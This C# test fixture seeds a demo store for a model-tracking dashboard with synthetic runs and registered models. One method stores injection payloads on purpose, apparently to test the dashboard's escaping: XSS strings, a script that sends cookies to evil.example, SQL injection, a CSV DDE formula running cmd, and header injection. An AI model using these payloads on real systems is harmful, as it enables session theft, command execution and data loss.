using ModelTracking.Capture;
using ModelTracking.Charts;
using ModelTracking.Records;
using ModelTracking.Tests;
using ModelTracking.Versioning;

namespace ModelTracking.Dashboard.Tests.Shared;

/// <summary>A store with a bit of everything, the same at each time; made once for the test classes that only read it.</summary>
public sealed class DemoStore : IAsyncLifetime, IDisposable
{
    public static readonly RunId Hero = RunId.Parse("00000000000000000000000000000001");
    public static readonly RunId Failed = RunId.Parse("00000000000000000000000000000002");
    public static readonly RunId Search = RunId.Parse("00000000000000000000000000000003");
    public static readonly RunId Hostile = RunId.Parse("00000000000000000000000000000004");
    public static readonly RunId Files = RunId.Parse("00000000000000000000000000000005");
    public static readonly RunId FilesAfter = RunId.Parse("00000000000000000000000000000006");
    public const string HostileName = "<img src=x onerror=alert(1)> \u202Eevil\u202C 🦊";

    private static readonly MadeOnce Made = new(FillAsync);

    private readonly TempFolder _folder = new();

    public string Folder => _folder["demo/mltrack"];

    public static RunId Grid(int number) => RunId.Parse($"1{number:x31}");

    public static TrackingClient Client(string folder) => TrackingClient.Open(new TrackingOptions { Store = folder, Capture = CaptureOptions.Off(), Seed = 1 });

    public Task InitializeAsync() => Made.CopyToAsync(Folder);

    public Task DisposeAsync() => Task.CompletedTask;

    public void Dispose() => _folder.Dispose();

    private static async Task FillAsync(string folder)
    {
        await using var client = Client(folder);
        for (var i = 0; i < 24; i++)
        {
            Train(client, i);
        }

        HeroRun.Log(client);
        LogFailed(client);
        LogSearch(client);
        LogHostile(client);
        FilesRun.Log(client);
        await client.DisposeAsync();
        await using var again = Client(folder);
        await RegisterAsync(again);
    }

    private static void Train(TrackingClient client, int i)
    {
        var random = new Random(i);
        var (lr, units, optimizer) = (new[] { 0.0003, 0.001, 0.003, 0.01 }[i % 4], new[] { 64, 128, 256 }[i / 4 % 3], i % 2 == 0 ? "adam" : "sgd");
        using var run = client.StartRun("digits", new RunOptions { Id = Grid(i), Name = $"{optimizer}-{units}-{(i / 12) + 1}" });
        run.LogParams(new Dictionary<string, object?> { ["optimizer"] = optimizer, ["lr"] = lr, ["units"] = units, ["seed"] = (i / 12) + 1, ["epochs"] = 60 });
        run.SetTag("team", i % 3 == 0 ? "vision" : "research");
        var loss = run.Metric("loss", "train", MetricGoal.Minimize);
        var validation = run.Metric("loss", "validation", MetricGoal.Minimize);
        var accuracy = run.Metric("accuracy", "validation", MetricGoal.Maximize);
        var speed = 6 + (units / 40.0) - (lr * 300);
        for (var step = 0; step < 60; step++)
        {
            var down = Math.Exp(-step / speed);
            loss.Log(0.04 + (2.2 * down) + (random.NextDouble() * 0.06), step);
            validation.Log(0.11 + (2.2 * down) + (step * lr * 0.12) + (random.NextDouble() * 0.05), step);
            accuracy.Log(0.975 - (0.85 * down) - (lr * 1.3) + (random.NextDouble() * 0.012), step);
        }

        if (i < 6)
        {
            SiblingRun.Log(run, i, random);
        }
    }

    private static void LogFailed(TrackingClient client)
    {
        var run = client.StartRun("digits", new RunOptions { Id = Failed, Name = "sgd-diverged" });
        run.LogParam("optimizer", "sgd");
        run.LogParam("lr", 3.0);
        for (var step = 0; step < 8; step++)
        {
            run.LogMetric("loss", step < 6 ? Math.Pow(4, step) : double.NaN, step, "train");
        }

        run.LogEvent("watchdog.nan", "loss{train} became NaN", EventSeverity.Error, 6);
        run.FailAsync(new InvalidOperationException("The loss is not a number; lower the learning rate.")).GetAwaiter().GetResult();
    }

    private static void LogSearch(TrackingClient client)
    {
        var random = new Random(7);
        using var parent = client.StartRun("churn", new RunOptions { Id = Search, Name = "automl-search" });
        for (var trial = 0; trial < 18; trial++)
        {
            var child = client.StartRun(parent, new RunOptions { Name = $"trial-{trial:00}" });
            child.LogParam("trainer", new[] { "FastTree", "LightGbm", "Sdca" }[trial % 3]);
            child.LogParam("leaves", 8 << (trial % 4));
            child.Metric("auc", goal: MetricGoal.Maximize).Log(0.78 + (0.12 * (1 - Math.Exp(-trial / 8.0))) + (random.NextDouble() * 0.04), 0);
            if (trial is 5 or 11)
            {
                child.FailAsync(new TimeoutException("The trial took longer than 30 s.")).GetAwaiter().GetResult();
            }

            child.Dispose();
        }
    }

    private static void LogHostile(TrackingClient client)
    {
        using var run = client.StartRun("<script>alert(1)</script>", new RunOptions { Id = Hostile, Name = HostileName, Description = "<b onmouseover=alert(1)>not bold</b>" });
        run.LogParam("<svg/onload=alert(1)>", "\"><script>alert(1)</script>");
        run.SetTag("javascript:alert(1)", "'; DROP TABLE runs; --");
        run.LogMetric("=HYPERLINK(\"http://evil.example\")", 1, 0);
        run.LogText("<script>top.location='http://evil.example/'+document.cookie;fetch('../about')</script><h1>Report</h1>", "report.html", new ArtifactOptions { MediaType = "text/html" });
        run.LogText("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><circle r='9'/></svg>", "drawing.svg", new ArtifactOptions { MediaType = "image/svg+xml" });
        run.LogText("a,b\n=cmd|' /C calc'!A0,2\n", "cells.csv");
        run.LogText("x", "odd name; filename=\"evil.html\".bin", new ArtifactOptions { MediaType = "text/html\r\nX-Evil: 1" });
    }

    private static async Task RegisterAsync(TrackingClient client)
    {
        var model = new byte[200];
        var repository = client.Repository("digits");
        var first = repository.Commit("First classifier", c => Build(c, 0.91, 64).By("ada"));
        var wide = repository.Commit("Twice as wide", c => Build(c, 0.947, 128).By("ada"));
        repository.Branch("augment");
        var augmented = repository.Commit("Shift digits by a pixel", c => Build(c, 0.958, 128).Set("train.augment", true).By("grace"), "augment");
        repository.Commit("Longer schedule", c => c.Set("train.epochs", 90).By("ada"));
        repository.Merge("augment");
        repository.Tag("v1", wide);
        client.Models.Register("digits", first, description: "The first that was good enough to try.");
        client.Models.Register("digits", wide);
        client.Models.Register("digits", augmented, description: "Trained with shifted digits.");
        var registered = client.Models.Model("digits");
        registered.Describe("Reads handwritten digits, 8 × 8 pixels.");
        registered.Protect("champion", new PromotionRule { Approvals = 1, Metric = "accuracy", AtLeast = 0.9 });
        registered.Version(2).Approve("holds on the test set", "grace").Promote("champion").SetStage("Production");
        registered.Version(3).RequestApproval("better on shifted digits").SetStage("Staging");
        var hero = await client.Reader.GetRunAsync(Hero);
        client.Models.Register("digits-net", hero!, "models/net/model.zip");

        CommitBuilder Build(CommitBuilder commit, double accuracy, int units) => commit
            .Config("train", new Dictionary<string, object?> { ["lr"] = 0.001, ["units"] = units, ["epochs"] = 60 })
            .Metric("accuracy", accuracy, MetricGoal.Maximize)
            .Environment(new Dictionary<string, ParamValue> { ["framework"] = ParamValue.Of(".NET 10.0.1") })
            .Model("classifier", "model.zip", stream => stream.Write(model.Select(b => (byte)(b + units)).ToArray()));
    }
}
